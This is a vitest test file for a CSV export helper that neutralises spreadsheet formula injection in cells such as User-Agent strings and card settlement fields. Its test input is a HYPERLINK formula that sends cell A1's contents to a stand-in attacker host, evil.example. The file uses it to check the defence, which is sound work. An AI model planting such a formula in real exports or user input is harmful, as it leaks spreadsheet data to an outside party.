import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { cardTransactionColumns, readCsv, writeCsv } from "./card-settlement-files";
import { spreadsheetSafe, toCsv } from "./csv";

// The probe's row: a failed login stored the caller's User-Agent as sent, and the export wrote it as a live formula.
describe("CSV cells a spreadsheet could run", () => {
  const formulaStarts = ["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];

  it.each(
    formulaStarts.map((start) => [JSON.stringify(start), start]),
  )("neutralises a text cell starting with %s", (_, start) => {
    const text = `${start}HYPERLINK("https://evil.example/?x="&A1,"open")`;
    expect(spreadsheetSafe(text)).toBe(`'${text}`);
    const [row] = parse(toCsv([{ user_agent: text }], { header: false, columns: ["user_agent"] })) as string[][];
    expect(row).toEqual([`'${text}`]);
  });

  it("leaves other text as it is, and only the first character counts", () => {
    for (const text of ["Mozilla/5.0", "a=b", "", "'=already", " =1", "x-1"]) expect(spreadsheetSafe(text)).toBe(text);
  });

  it("keeps numbers numbers: a refund of -100 is written -100", () => {
    const csv = toCsv([{ amount: -100, note: "-100" }], { header: false, columns: ["amount", "note"] });
    expect(csv).toBe("-100,'-100\n");
  });

  it("writes an instant in ISO 8601, not csv-stringify's epoch milliseconds", () => {
    const at = new Date("2026-11-28T01:02:03.456Z");
    expect(toCsv([{ timestamp: at }], { header: false, columns: ["timestamp"] })).toBe("2026-11-28T01:02:03.456Z\n");
  });

  it("writes the card exchange's files through the same rule, amounts unchanged", () => {
    const text = writeCsv(cardTransactionColumns, [
      {
        transaction_id: "t1",
        date: "2026-11-28",
        time: "10:00:00",
        amount: -300,
        approval_code: "=1+1",
        status: "refunded",
      },
    ]);
    expect(readCsv(cardTransactionColumns, text)).toEqual([
      expect.objectContaining({ amount: "-300", approval_code: "'=1+1" }),
    ]);
  });
});
